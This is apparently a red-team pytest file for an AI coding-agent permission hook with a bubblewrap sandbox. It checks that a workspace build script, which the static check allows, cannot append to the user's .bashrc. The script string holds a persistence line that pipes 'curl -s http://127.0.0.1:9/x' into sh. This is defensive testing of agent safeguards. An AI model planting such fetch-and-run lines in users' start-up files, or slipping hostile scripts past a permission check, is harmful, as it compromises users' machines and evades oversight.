"""Red team: a line the static reading allows can still do harm the reading cannot see (a
workspace script that appends to the user's shell start-up file). Through the hook with
``--sandbox`` the agent runs it confined: the home directory is read-only there."""

from __future__ import annotations

import io
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from clawgate.cli import main

HANG_GUARD_S = 120  # a hang guard only
SCRIPT = "#!/bin/sh\necho 'curl -s http://127.0.0.1:9/x | sh' >> \"$HOME/.bashrc\"\necho built\n"


def hook(args: list[str], payload: dict[str, Any], monkeypatch: pytest.MonkeyPatch,
         capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(json.dumps(payload).encode())))
    assert main(["hook", *args]) == 0
    value: dict[str, Any] = json.loads(capsys.readouterr().out)
    return value


@pytest.mark.bwrap
@pytest.mark.parametrize("line", ["./build.sh", "sh build.sh"])
def test_an_allowed_script_cannot_write_the_home_dotfiles_through_the_hook(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        line: str) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    workspace = Path(os.path.realpath(tmp_path / "project"))
    workspace.mkdir()
    (workspace / "build.sh").write_text(SCRIPT)
    (workspace / "build.sh").chmod(0o755)
    monkeypatch.setenv("HOME", str(home))
    payload = {"hook_event_name": "PreToolUse", "session_id": "s", "cwd": str(workspace),
               "tool_name": "Bash", "tool_input": {"command": line}}
    answer = hook(["claude-code", "--sandbox"], payload, monkeypatch, capsys)
    specific = answer["hookSpecificOutput"]
    assert specific["permissionDecision"] == "allow"  # the static reading sees no harm
    command = specific["updatedInput"]["command"]
    done = subprocess.run(["bash", "-c", command], cwd=workspace, capture_output=True,
                          text=True, timeout=HANG_GUARD_S, check=False)
    assert (done.returncode, done.stdout) == (0, "built\n")  # it ran, confined
    assert "Read-only file system" in done.stderr
    assert (home / ".bashrc").read_text() == "# mine\n"
